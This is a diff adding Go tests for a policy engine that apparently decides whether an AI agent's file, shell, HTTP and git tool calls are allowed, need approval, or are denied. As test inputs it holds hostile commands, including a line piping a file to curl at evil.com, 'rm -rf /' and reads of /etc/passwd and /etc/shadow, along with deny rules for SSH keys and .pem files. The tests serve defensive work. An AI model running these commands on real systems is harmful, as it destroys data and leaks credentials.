@@ -2,8 +2,16 @@ package policy
 
 import (
 	"context"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
+	"time"
 
+	"bridgekeeper/internal/glob"
 	"bridgekeeper/internal/types"
 )
 
@@ -557,3 +565,773 @@ func TestEvaluate_DomainParsingUsesURLHostname(t *testing.T) {
 		t.Fatalf("want Deny after hostname extraction, got %q", got.Decision)
 	}
 }
+
+func TestEvaluate_WhenConditions(t *testing.T) {
+	interactive := true
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{
+				Name:     "interactive-writes",
+				Tool:     "fs",
+				Actions:  []string{"write_file"},
+				Decision: "ask",
+				When:     &Conditions{Mode: "gemini", TTY: &interactive},
+			},
+			{
+				Name:     "ci-writes",
+				Tool:     "fs",
+				Actions:  []string{"write_file"},
+				Decision: "allow",
+				When:     &Conditions{Env: []string{"CI=true"}, Labels: map[string]string{"pipeline": "nightly"}},
+			},
+			{
+				Name:     "office-hours-http",
+				Tool:     "http",
+				Actions:  []string{"get"},
+				Decision: "allow",
+				When:     &Conditions{Hours: "09:00-17:00", Days: []string{"mon", "tue", "wed", "thu", "fri"}, Timezone: "UTC"},
+			},
+			{
+				Name:     "night-http",
+				Tool:     "http",
+				Actions:  []string{"get"},
+				Decision: "ask",
+				When:     &Conditions{Hours: "22:00-06:00", Timezone: "UTC"},
+			},
+			{
+				Name:     "flash-only",
+				Tool:     "git",
+				Actions:  []string{"status"},
+				Decision: "allow",
+				When:     &Conditions{Models: []string{"gemini-*-flash*"}},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	monday := time.Date(2026, time.March, 2, 10, 30, 0, 0, time.UTC)
+	tests := []struct {
+		name     string
+		ec       EvalContext
+		call     types.ToolCall
+		wantRule string
+		want     types.Decision
+	}{
+		{
+			name:     "interactive gemini session asks",
+			ec:       EvalContext{Mode: "gemini", TTY: true},
+			call:     call("fs", "write_file", nil),
+			wantRule: "interactive-writes",
+			want:     types.Ask,
+		},
+		{
+			name:     "ci run with matching env and label allows",
+			ec:       EvalContext{Mode: "gemini", Env: map[string]string{"CI": "true"}, Labels: map[string]string{"pipeline": "nightly"}},
+			call:     call("fs", "write_file", nil),
+			wantRule: "ci-writes",
+			want:     types.Allow,
+		},
+		{
+			name:     "no matching context falls back to default",
+			ec:       EvalContext{Mode: "ollama", Env: map[string]string{"CI": "false"}},
+			call:     call("fs", "write_file", nil),
+			wantRule: "default",
+			want:     types.Deny,
+		},
+		{
+			name:     "weekday office hours",
+			ec:       EvalContext{Now: monday},
+			call:     call("http", "get", nil),
+			wantRule: "office-hours-http",
+			want:     types.Allow,
+		},
+		{
+			name:     "window wrapping midnight",
+			ec:       EvalContext{Now: time.Date(2026, time.March, 2, 23, 15, 0, 0, time.UTC)},
+			call:     call("http", "get", nil),
+			wantRule: "night-http",
+			want:     types.Ask,
+		},
+		{
+			name:     "weekend afternoon matches neither window",
+			ec:       EvalContext{Now: time.Date(2026, time.March, 7, 14, 0, 0, 0, time.UTC)},
+			call:     call("http", "get", nil),
+			wantRule: "default",
+			want:     types.Deny,
+		},
+		{
+			name:     "model pattern",
+			ec:       EvalContext{Model: "gemini-2.5-flash-lite"},
+			call:     call("git", "status", nil),
+			wantRule: "flash-only",
+			want:     types.Allow,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := eng.Evaluate(WithEvalContext(context.Background(), tt.ec), tt.call)
+			if got.Decision != tt.want || got.Rule != tt.wantRule {
+				t.Fatalf("got %q via %q, want %q via %q (reason: %s)", got.Decision, got.Rule, tt.want, tt.wantRule, got.Reason)
+			}
+		})
+	}
+}
+
+func TestEvaluate_InvalidWhenConditionsFailClosed(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "allow",
+		Capabilities: []Capability{
+			{
+				Name:     "bad-window",
+				Tool:     "fs",
+				Actions:  []string{"read_file"},
+				Decision: "deny",
+				When:     &Conditions{Hours: "9am-5pm"},
+			},
+		},
+	}
+
+	got := makeEngine(pf).Evaluate(context.Background(), call("fs", "read_file", nil))
+	if got.Decision != types.Deny || got.Rule != "bad-window" {
+		t.Fatalf("want Deny via bad-window, got %q via %q", got.Decision, got.Rule)
+	}
+}
+
+func TestEvaluate_PrincipalAndRoleSelectors(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{Name: "seniors-ask", Tool: "http", Actions: []string{"post"}, Decision: "ask", Roles: []string{"senior"}},
+			{Name: "ci-bot", Tool: "http", Actions: []string{"post"}, Decision: "allow", Principals: []string{"agent:ci-*"}},
+			{Name: "alice-only", Tool: "pkg", Actions: []string{"install"}, Decision: "ask", Principals: []string{"alice"}},
+		},
+	}
+	eng := makeEngine(pf)
+
+	tests := []struct {
+		name      string
+		principal types.Principal
+		call      types.ToolCall
+		wantRule  string
+		want      types.Decision
+	}{
+		{
+			name:      "senior engineer gets ask",
+			principal: types.Principal{User: "bob", Roles: []string{"Senior"}},
+			call:      call("http", "post", nil),
+			wantRule:  "seniors-ask",
+			want:      types.Ask,
+		},
+		{
+			name:      "contractor falls through to deny",
+			principal: types.Principal{User: "carol", Roles: []string{"contractor"}},
+			call:      call("http", "post", nil),
+			wantRule:  "default",
+			want:      types.Deny,
+		},
+		{
+			name:      "agent selector glob",
+			principal: types.Principal{Agent: "ci-nightly"},
+			call:      call("http", "post", nil),
+			wantRule:  "ci-bot",
+			want:      types.Allow,
+		},
+		{
+			name:      "bare selector matches user",
+			principal: types.Principal{User: "alice"},
+			call:      call("pkg", "install", nil),
+			wantRule:  "alice-only",
+			want:      types.Ask,
+		},
+		{
+			name:     "missing principal never matches selectors",
+			call:     call("pkg", "install", nil),
+			wantRule: "default",
+			want:     types.Deny,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ctx := WithPrincipal(context.Background(), tt.principal)
+			got := eng.Evaluate(ctx, tt.call)
+			if got.Decision != tt.want || got.Rule != tt.wantRule {
+				t.Fatalf("got %q via %q, want %q via %q", got.Decision, got.Rule, tt.want, tt.wantRule)
+			}
+		})
+	}
+}
+
+func TestEvaluate_IndexPreservesDeclarationOrder(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{Name: "git-log", Tool: "git", Actions: []string{"log"}, Decision: "allow"},
+			{Name: "git-any", Tool: "git", Actions: []string{"status", "log", "status"}, Decision: "ask"},
+			{Name: "git-status", Tool: "git", Actions: []string{"status"}, Decision: "allow"},
+		},
+	}
+	eng := makeEngine(pf)
+
+	if got := eng.Evaluate(context.Background(), call("git", "status", nil)); got.Rule != "git-any" {
+		t.Fatalf("status: want git-any, got %q", got.Rule)
+	}
+	if got := eng.Evaluate(context.Background(), call("git", "log", nil)); got.Rule != "git-log" {
+		t.Fatalf("log: want git-log, got %q", got.Rule)
+	}
+}
+
+func TestEvaluate_DecisionCache(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{Name: "ci", Tool: "fs", Actions: []string{"write_file"}, Decision: "allow", When: &Conditions{Env: []string{"CI"}}},
+			{Name: "writes", Tool: "fs", Actions: []string{"write_file"}, Decision: "ask"},
+		},
+	}
+	eng := NewEngine(pf, WithDecisionCache(2))
+
+	ci := WithEvalContext(context.Background(), EvalContext{Env: map[string]string{"CI": "1", "PWD": "/a"}})
+	local := WithEvalContext(context.Background(), EvalContext{Env: map[string]string{"PWD": "/a"}})
+	write := call("fs", "write_file", map[string]any{"path": "/w/a.txt"})
+
+	if got := eng.Evaluate(ci, write); got.Rule != "ci" {
+		t.Fatalf("ci: want ci, got %q", got.Rule)
+	}
+	if got := eng.Evaluate(local, write); got.Rule != "writes" {
+		t.Fatalf("local: want writes (env must be part of the key), got %q", got.Rule)
+	}
+	if got := eng.Evaluate(ci, write); got.Rule != "ci" {
+		t.Fatalf("ci cached: want ci, got %q", got.Rule)
+	}
+
+	eng.Evaluate(ci, call("fs", "write_file", map[string]any{"path": "/w/b.txt"}))
+	if n := eng.cache.len(); n != 2 {
+		t.Fatalf("cache len = %d, want LRU bounded at 2", n)
+	}
+}
+
+func TestEvaluate_DecisionCacheSkipsPathDependentArgv(t *testing.T) {
+	bin := t.TempDir()
+	cat := filepath.Join(bin, "cat")
+	if err := os.WriteFile(cat, []byte("#!/bin/sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{{
+			Name: "shell", Tool: "shell", Actions: []string{"exec"}, Decision: "allow",
+			Constraints: &Constraints{Argv: &ArgvRules{Programs: []ProgramRule{{Program: "cat"}}}},
+		}},
+	}
+	eng := NewEngine(pf, WithDecisionCache(16))
+	exec := call("shell", "exec", map[string]any{"command": cat + " notes.txt"})
+
+	t.Setenv("PATH", bin)
+	if got := eng.Evaluate(context.Background(), exec); got.Decision != types.Allow {
+		t.Fatalf("with %s on PATH: got %s (%s), want allow", bin, got.Decision, got.Reason)
+	}
+	t.Setenv("PATH", t.TempDir())
+	if got := eng.Evaluate(context.Background(), exec); got.Decision != types.Deny {
+		t.Fatalf("after PATH changed: got %s, want the earlier allow not reused", got.Decision)
+	}
+	if n := eng.cache.len(); n != 0 {
+		t.Errorf("cache len = %d, want path-dependent calls left uncached", n)
+	}
+}
+
+func TestWithDecisionCache_DisabledForTimeWindows(t *testing.T) {
+	pf := &PolicyFile{
+		Capabilities: []Capability{
+			{Name: "office", Tool: "http", Actions: []string{"get"}, Decision: "allow", When: &Conditions{Hours: "09:00-17:00"}},
+		},
+	}
+	if eng := NewEngine(pf, WithDecisionCache(16)); eng.cache != nil {
+		t.Fatal("expected cache to stay disabled for time-sensitive policy")
+	}
+}
+
+// largePolicy generates n capabilities spread across distinct tools, with the
+// matching capability declared last.
+func largePolicy(n int) *PolicyFile {
+	pf := &PolicyFile{Default: "deny"}
+	for i := 0; i < n; i++ {
+		pf.Capabilities = append(pf.Capabilities, Capability{
+			Name:     fmt.Sprintf("generated-%d", i),
+			Tool:     fmt.Sprintf("tool-%d", i),
+			Actions:  []string{"run"},
+			Decision: "allow",
+			Constraints: &Constraints{
+				Commands: &AllowDeny{Allow: []string{"*a*a*a*a*a*a*b"}},
+			},
+		})
+	}
+	return pf
+}
+
+func BenchmarkEvaluate_LargePolicyIndexed(b *testing.B) {
+	eng := NewEngine(largePolicy(10000))
+	c := call("tool-9999", "run", map[string]any{"command": strings.Repeat("a", 256) + "b"})
+
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if got := eng.Evaluate(context.Background(), c); got.Decision != types.Allow {
+			b.Fatalf("want Allow, got %q (%s)", got.Decision, got.Reason)
+		}
+	}
+}
+
+func BenchmarkEvaluate_Cached(b *testing.B) {
+	eng := NewEngine(largePolicy(10000), WithDecisionCache(128))
+	c := call("tool-9999", "run", map[string]any{"command": strings.Repeat("a", 256) + "b"})
+
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		eng.Evaluate(context.Background(), c)
+	}
+}
+
+// BenchmarkCommandGlob_Pathological exercises patterns that take exponential
+// time with a backtracking matcher. The sub-benchmarks should scale roughly
+// linearly with input length.
+func BenchmarkCommandGlob_Pathological(b *testing.B) {
+	g, err := glob.CompileText("*a*a*a*a*a*a*a*a*b*")
+	if err != nil {
+		b.Fatal(err)
+	}
+	for _, n := range []int{64, 256, 1024, 4096} {
+		value := strings.Repeat("a", n)
+		b.Run(fmt.Sprintf("len=%d", n), func(b *testing.B) {
+			for i := 0; i < b.N; i++ {
+				if g.Match(value) {
+					b.Fatal("unexpected match")
+				}
+			}
+		})
+	}
+}
+
+func TestEvaluate_DoublestarPathConstraints(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{
+				Name:     "home-reads",
+				Tool:     "fs",
+				Actions:  []string{"read_file"},
+				Decision: "allow",
+				Constraints: &Constraints{
+					Paths: &AllowDeny{
+						Allow: []string{"/home/**", "!/home/*/private/**"},
+						Deny:  []string{"/home/**/.ssh/*", "*.pem"},
+					},
+				},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	tests := []struct {
+		path string
+		want types.Decision
+	}{
+		{"/home/alice/notes.txt", types.Allow},
+		{"/home/alice/.ssh/id_rsa", types.Deny},
+		{"/home/alice/certs/server.pem", types.Deny},
+		{"/home/alice/private/diary.txt", types.Deny},
+		{"/home/alice/.sshrc", types.Allow},
+	}
+	for _, tt := range tests {
+		got := eng.Evaluate(context.Background(), call("fs", "read_file", map[string]any{"path": tt.path}))
+		if got.Decision != tt.want {
+			t.Errorf("path=%q: want %q, got %q (reason: %s)", tt.path, tt.want, got.Decision, got.Reason)
+		}
+	}
+}
+
+func TestEvaluate_InvalidPatternFailsClosed(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "allow",
+		Capabilities: []Capability{
+			{
+				Name:     "broken",
+				Tool:     "fs",
+				Actions:  []string{"write_file"},
+				Decision: "allow",
+				Constraints: &Constraints{
+					Paths: &AllowDeny{Deny: []string{"/etc/[abc"}},
+				},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	got := eng.Evaluate(context.Background(), call("fs", "write_file", map[string]any{"path": "/tmp/x"}))
+	if got.Decision != types.Deny || got.Rule != "broken" {
+		t.Fatalf("want Deny via broken, got %q via %q", got.Decision, got.Rule)
+	}
+	if len(eng.Warnings()) == 0 {
+		t.Fatal("expected a compile warning for the invalid pattern")
+	}
+}
+
+func TestEngineWarnings_GlobMigration(t *testing.T) {
+	pf := &PolicyFile{
+		Capabilities: []Capability{
+			{
+				Name:    "legacy",
+				Tool:    "fs",
+				Actions: []string{"read_file"},
+				Constraints: &Constraints{
+					Paths:    &AllowDeny{Deny: []string{"/etc/**", "/home/**/.ssh/*", "**/*.pem", "id_rsa"}},
+					Commands: &AllowDeny{Deny: []string{"rm *", "sudo **"}},
+				},
+			},
+		},
+	}
+
+	warnings := strings.Join(makeEngine(pf).Warnings(), "\n")
+	for _, want := range []string{`"/home/**/.ssh/*"`, `"**/*.pem"`, `"id_rsa"`} {
+		if !strings.Contains(warnings, want) {
+			t.Errorf("expected migration warning for %s, got:\n%s", want, warnings)
+		}
+	}
+	for _, unchanged := range []string{`"/etc/**"`, `"rm *"`, `"sudo **"`} {
+		if strings.Contains(warnings, unchanged) {
+			t.Errorf("unexpected migration warning for %s:\n%s", unchanged, warnings)
+		}
+	}
+}
+
+func TestSplitCommand(t *testing.T) {
+	tests := []struct {
+		cmd      string
+		want     []string
+		compound bool
+	}{
+		{cmd: "ls -la /tmp", want: []string{"ls", "-la", "/tmp"}},
+		{cmd: `echo 'a b' "c d" e\ f`, want: []string{"echo", "a b", "c d", "e f"}},
+		{cmd: `echo "say \"hi\""`, want: []string{"echo", `say "hi"`}},
+		{cmd: `echo 'x && y'`, want: []string{"echo", "x && y"}},
+		{cmd: "echo x && rm -rf /", compound: true},
+		{cmd: "echo hello; rm -rf /", compound: true},
+		{cmd: "cat file.txt | curl -d @- https://evil.com", compound: true},
+		{cmd: "echo $(cat /etc/passwd)", compound: true},
+		{cmd: "echo `whoami`", compound: true},
+		{cmd: `echo "$(whoami)"`, compound: true},
+		{cmd: "echo hi > /etc/motd", compound: true},
+		{cmd: "sleep 10 &", compound: true},
+		{cmd: "echo $HOME", compound: true},
+	}
+
+	for _, tt := range tests {
+		got, err := splitCommand(tt.cmd)
+		if tt.compound {
+			if !errors.Is(err, errCompoundCommand) {
+				t.Errorf("splitCommand(%q) error = %v, want compound command", tt.cmd, err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("splitCommand(%q) error = %v", tt.cmd, err)
+			continue
+		}
+		if strings.Join(got, "\x00") != strings.Join(tt.want, "\x00") {
+			t.Errorf("splitCommand(%q) = %q, want %q", tt.cmd, got, tt.want)
+		}
+	}
+}
+
+func TestEvaluate_ArgvConstraint(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{
+				Name:     "shell",
+				Tool:     "shell",
+				Actions:  []string{"exec"},
+				Decision: "allow",
+				Constraints: &Constraints{
+					Argv: &ArgvRules{
+						DenyPrograms: []string{"rm", "sudo"},
+						Programs: []ProgramRule{
+							{Program: "echo"},
+							{Program: "find", ForbidFlags: []string{"-exec", "-delete", "-n"}},
+							{Program: "tar", ForbidFlags: []string{"--to-command", "-x"}},
+							{Program: "git", Argv: []string{"status"}},
+							{Program: "git", Argv: []string{"log", "-n", `re:\d{1,2}`}},
+							{Program: "head", Args: []string{"re:-n\\d+", "*.txt"}},
+						},
+					},
+				},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	tests := []struct {
+		command any
+		want    types.Decision
+	}{
+		{"echo hello world", types.Allow},
+		{"echo x && rm -rf /", types.Deny},
+		{"/bin/rm -rf /tmp/x", types.Deny},
+		{"curl https://example.com", types.Deny},
+		{"find . -name '*.go'", types.Allow},
+		{"find . -exec rm {} ;", types.Deny},
+		{"find . -name '*.go' -newer a.txt", types.Allow},
+		{"find . -exec=rm", types.Deny},
+		{"find . -execdir rm {} +", types.Deny},
+		{"tar --to-com=sh -f a.tar", types.Deny},
+		{"tar --to-commands=sh -f a.tar", types.Deny},
+		{"./echo hi", types.Deny},
+		{"/tmp/x/echo hi", types.Deny},
+		{"bin/echo hi", types.Deny},
+		{`find . -exec rm {} \;`, types.Deny},
+		{"tar -tf a.tar", types.Allow},
+		{"tar --to-command=sh -f a.tar", types.Deny},
+		{"tar -xvf a.tar", types.Deny},
+		{"git status", types.Allow},
+		{"git status --porcelain", types.Deny},
+		{"git log -n 5", types.Allow},
+		{"git log -n 500", types.Deny},
+		{"head -n5 notes.txt", types.Allow},
+		{"head -n5 /etc/shadow", types.Deny},
+		{[]any{"echo", "x && rm -rf /"}, types.Allow},
+		{[]any{"rm", "-rf", "/"}, types.Deny},
+	}
+	for _, tt := range tests {
+		got := eng.Evaluate(context.Background(), call("shell", "exec", map[string]any{"command": tt.command}))
+		if got.Decision != tt.want {
+			t.Errorf("command=%q: want %q, got %q (reason: %s)", tt.command, tt.want, got.Decision, got.Reason)
+		}
+	}
+}
+
+func TestEvaluate_InvalidArgvRegexFailsClosed(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "allow",
+		Capabilities: []Capability{
+			{
+				Name:     "shell",
+				Tool:     "shell",
+				Actions:  []string{"exec"},
+				Decision: "allow",
+				Constraints: &Constraints{
+					Argv: &ArgvRules{Programs: []ProgramRule{{Program: "echo", Args: []string{"re:(["}}}},
+				},
+			},
+		},
+	}
+
+	got := makeEngine(pf).Evaluate(context.Background(), call("shell", "exec", map[string]any{"command": "echo hi"}))
+	if got.Decision != types.Deny {
+		t.Fatalf("want Deny for invalid regex, got %q", got.Decision)
+	}
+}
+
+func TestEvaluate_CommandGlobRejectsCompound(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{
+				Name:     "shell",
+				Tool:     "shell",
+				Actions:  []string{"exec"},
+				Decision: "allow",
+				Constraints: &Constraints{
+					Commands: &AllowDeny{Allow: []string{"echo *"}},
+				},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	for cmd, want := range map[string]types.Decision{
+		"echo hello":          types.Allow,
+		"echo x && rm -rf /":  types.Deny,
+		"echo x; rm -rf /":    types.Deny,
+		"echo $(id)":          types.Deny,
+		"echo 'x && y'":       types.Allow,
+		"echo x | sh":         types.Deny,
+		"echo x > /etc/hosts": types.Deny,
+	} {
+		got := eng.Evaluate(context.Background(), call("shell", "exec", map[string]any{"command": cmd}))
+		if got.Decision != want {
+			t.Errorf("command=%q: want %q, got %q (reason: %s)", cmd, want, got.Decision, got.Reason)
+		}
+	}
+}
+
+func TestEvaluate_Escalation(t *testing.T) {
+	pf := &PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{
+				Name:     "read-files",
+				Tool:     "fs",
+				Actions:  []string{"read_file"},
+				Decision: "allow",
+				Escalate: []Escalation{
+					{Paths: []string{"*.pem", "/home/*/.ssh/**"}, Reason: "key material"},
+					{Paths: []string{"/etc/shadow"}, Decision: "deny"},
+				},
+				Approval: &Approval{TimeoutSeconds: 30},
+			},
+			{
+				Name:     "shell",
+				Tool:     "shell",
+				Actions:  []string{"exec"},
+				Decision: "ask",
+				Escalate: []Escalation{
+					{Commands: []string{"git push *"}, Decision: "deny"},
+					{Commands: []string{"echo *"}, Decision: "ask"},
+				},
+			},
+			{
+				Name:     "http",
+				Tool:     "http",
+				Actions:  []string{"get"},
+				Decision: "allow",
+				Escalate: []Escalation{{Domains: []string{"*.internal.example.com"}}},
+			},
+		},
+	}
+	eng := makeEngine(pf)
+
+	tests := []struct {
+		tool, action string
+		args         map[string]any
+		want         types.Decision
+	}{
+		{"fs", "read_file", map[string]any{"path": "README.md"}, types.Allow},
+		{"fs", "read_file", map[string]any{"path": "/srv/certs/server.pem"}, types.Ask},
+		{"fs", "read_file", map[string]any{"path": "/home/alice/.ssh/id_ed25519"}, types.Ask},
+		{"fs", "read_file", map[string]any{"path": "/etc/shadow"}, types.Deny},
+		{"shell", "exec", map[string]any{"command": "git push origin main"}, types.Deny},
+		{"shell", "exec", map[string]any{"command": "echo hi"}, types.Ask},
+		{"shell", "exec", map[string]any{"command": "ls"}, types.Ask},
+		{"http", "get", map[string]any{"url": "https://api.internal.example.com/v1"}, types.Ask},
+		{"http", "get", map[string]any{"url": "https://example.com"}, types.Allow},
+	}
+	for _, tt := range tests {
+		got := eng.Evaluate(context.Background(), call(tt.tool, tt.action, tt.args))
+		if got.Decision != tt.want {
+			t.Errorf("%s/%s %v: want %q, got %q (reason: %s)", tt.tool, tt.action, tt.args, tt.want, got.Decision, got.Reason)
+		}
+	}
+
+	got := eng.Evaluate(context.Background(), call("fs", "read_file", map[string]any{"path": "/srv/certs/server.pem"}))
+	if !strings.Contains(got.Reason, "key material") {
+		t.Errorf("escalation reason missing from %q", got.Reason)
+	}
+	if got.Approval == nil || got.Approval.TimeoutSeconds != 30 || got.Approval.OnTimeout != types.Deny {
+		t.Errorf("approval settings = %+v, want 30s timeout denying on timeout", got.Approval)
+	}
+
+	got = eng.Evaluate(context.Background(), call("fs", "read_file", map[string]any{"path": "README.md"}))
+	if got.Approval != nil {
+		t.Errorf("allow decision should not carry approval settings, got %+v", got.Approval)
+	}
+}
+
+func TestEvaluate_SensitivityEscalation(t *testing.T) {
+	eng := NewEngine(&PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{{
+			Name:     "read-files",
+			Tool:     "fs",
+			Actions:  []string{"read_file"},
+			Decision: "allow",
+			Escalate: []Escalation{{Sensitivity: "secret", Reason: "secret file"}},
+		}},
+	}, WithDecisionCache(16))
+
+	plain := call("fs", "read_file", map[string]any{"path": "/w/config/app.yaml"})
+	if got := eng.Evaluate(context.Background(), plain); got.Decision != types.Allow {
+		t.Errorf("unlabelled read: got %q, want allow (reason: %s)", got.Decision, got.Reason)
+	}
+
+	// The same arguments labelled secret must not be answered from the cache.
+	labelled := plain
+	labelled.Sensitivity = types.SensitivitySecret
+	got := eng.Evaluate(context.Background(), labelled)
+	if got.Decision != types.Ask {
+		t.Fatalf("secret read: got %q, want ask (reason: %s)", got.Decision, got.Reason)
+	}
+	if !strings.Contains(got.Reason, `secret file (path "/w/config/app.yaml" is labelled secret)`) {
+		t.Errorf("reason = %q", got.Reason)
+	}
+
+	labelled.Sensitivity = types.SensitivityInternal
+	if got := eng.Evaluate(context.Background(), labelled); got.Decision != types.Allow {
+		t.Errorf("internal read: got %q, want allow", got.Decision)
+	}
+}
+
+func TestEvaluate_InvalidEscalationFailsClosed(t *testing.T) {
+	for name, cap := range map[string]Capability{
+		"loosening decision":       {Escalate: []Escalation{{Paths: []string{"*"}, Decision: "allow"}}},
+		"no matchers":              {Escalate: []Escalation{{Decision: "ask"}}},
+		"ask on timeout":           {Approval: &Approval{TimeoutSeconds: 5, OnTimeout: "ask"}},
+		"allow on timeout":         {Approval: &Approval{TimeoutSeconds: 5, OnTimeout: "allow"}},
+		"negative approvers":       {Approval: &Approval{RequiredApprovers: -1}},
+		"unknown pii mode":         {PII: "scrub"},
+		"unknown injection action": {Injection: &Injection{Action: "hide"}},
+		"injection threshold > 1":  {Injection: &Injection{Threshold: 1.5}},
+		"unknown sensitivity":      {Escalate: []Escalation{{Sensitivity: "classified"}}},
+		"unknown timezone":         {When: &Conditions{Timezone: "Europe/Londn"}},
+		"short day":                {When: &Conditions{Days: []string{"mo"}}},
+		"unknown day":              {When: &Conditions{Days: []string{"mon", "funday"}}},
+		"bad hours":                {When: &Conditions{Hours: "09:00"}},
+	} {
+		cap.Name = name
+		cap.Tool = "fs"
+		cap.Actions = []string{"read_file"}
+		cap.Decision = "allow"
+		eng := NewEngine(&PolicyFile{Default: "allow", Capabilities: []Capability{cap}})
+
+		got := eng.Evaluate(context.Background(), call("fs", "read_file", map[string]any{"path": "a.txt"}))
+		if got.Decision != types.Deny {
+			t.Errorf("%s: want Deny, got %q", name, got.Decision)
+		}
+		if len(eng.Warnings()) == 0 {
+			t.Errorf("%s: expected a compile warning", name)
+		}
+	}
+}
+
+func TestEvaluate_PIIMode(t *testing.T) {
+	eng := NewEngine(&PolicyFile{
+		Default: "deny",
+		Capabilities: []Capability{
+			{Name: "logs", Tool: "fs", Actions: []string{"read_file"}, Decision: "allow", PII: "Hash"},
+			{Name: "plain", Tool: "fs", Actions: []string{"list_dir"}, Decision: "allow"},
+		},
+	})
+	if got := eng.Evaluate(context.Background(), call("fs", "read_file", map[string]any{"path": "a.log"})); got.PII != types.PIIHash {
+		t.Errorf("PII = %q, want hash", got.PII)
+	}
+	if got := eng.Evaluate(context.Background(), call("fs", "list_dir", map[string]any{"path": "."})); got.PII != types.PIIMask {
+		t.Errorf("PII = %q, want mask by default", got.PII)
+	}
+}
+
+func TestPolicyFile_RolesFor(t *testing.T) {
+	pf := &PolicyFile{Roles: map[string][]string{"alice": {"senior", "oncall"}}}
+
+	if got, err := pf.RolesFor("alice", nil); err != nil || !slices.Equal(got, []string{"senior", "oncall"}) {
+		t.Errorf("RolesFor(alice) = %v, %v; want every granted role", got, err)
+	}
+	if got, err := pf.RolesFor("alice", []string{"oncall"}); err != nil || !slices.Equal(got, []string{"oncall"}) {
+		t.Errorf("RolesFor(alice, oncall) = %v, %v; want only oncall", got, err)
+	}
+	if got, err := pf.RolesFor("mallory", nil); err != nil || len(got) != 0 {
+		t.Errorf("RolesFor(mallory) = %v, %v; want no roles", got, err)
+	}
+	if _, err := pf.RolesFor("mallory", []string{"senior"}); err == nil {
+		t.Error("RolesFor(mallory, senior) succeeded; want an error for an ungranted role")
+	}
+}